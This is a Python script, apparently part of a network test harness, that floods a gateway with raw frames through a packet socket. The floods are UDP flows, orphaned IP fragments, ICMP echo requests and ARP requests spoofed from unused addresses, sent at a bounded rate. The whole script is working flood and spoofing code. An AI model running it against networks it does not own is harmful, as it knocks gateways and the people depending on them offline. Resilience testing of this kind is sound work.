"""Sends frames at a bounded rate through a packet socket: what a host that means harm can do to its gateway.

    flood.py KIND DEVICE SOURCE TARGET GATEWAY RATE SECONDS

KIND: flows (UDP, a new port each), fragments (first ones never come), icmp (echo requests, a new identifier each), arp
(requests for the gateway in the name of addresses of the segment that nobody has). Frames leave in small groups, RATE a
second in all; prints how many left.
"""

import pathlib
import socket
import struct
import subprocess
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))

import packets  # noqa: E402

kind, device, source, target, gateway, rate, seconds = sys.argv[1:8]
rate, seconds = int(rate), float(seconds)
GROUP = 16


def hardware_address():
    """The gateway's Ethernet address, as the kernel has learned it."""
    subprocess.run(["ping", "-q", "-c", "1", "-W", "1", gateway], capture_output=True)
    entry = subprocess.run(["ip", "neighbour", "show", gateway], text=True, capture_output=True, check=True).stdout
    return bytes.fromhex(entry.split("lladdr ")[1].split()[0].replace(":", ""))


def packet(number):
    """The flood's IPv4 packet of a number."""
    if kind == "flows":
        datagram = packets.udp(source, 1024 + number % 64000, target, 9, bytes(32))
        return packets.ipv4(source, target, packets.UDP, datagram)
    if kind == "fragments":
        return packets.ipv4(
            source, target, packets.UDP, bytes(64), identification=number % 65536, offset=1480,
            flags=packets.MORE_FRAGMENTS,
        )
    return packets.ipv4(source, target, packets.ICMP, packets.echo_request(number % 65536, 1, bytes(32)))


def frames(own, router):
    """Some thousands of different frames, made beforehand."""
    if kind == "arp":
        for number in range(100, 255):
            sender = socket.inet_aton(source)[:3] + bytes([number])
            body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + own + sender + bytes(6) + socket.inet_aton(gateway)
            yield b"\xff" * 6 + own + b"\x08\x06" + body + bytes(18)
    else:
        for number in range(20_000):
            yield router + own + b"\x08\x00" + packet(number)


with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as wire:
    wire.bind((device, 0))
    ready = list(frames(wire.getsockname()[4], hardware_address()))
    began, sent, refused = time.monotonic(), 0, 0
    while (now := time.monotonic() - began) < seconds:
        if sent > now * rate:
            time.sleep(0.0005)
            continue
        for _ in range(GROUP):
            try:
                wire.send(ready[sent % len(ready)])
            except OSError:
                refused += 1
            sent += 1
print(sent - refused)
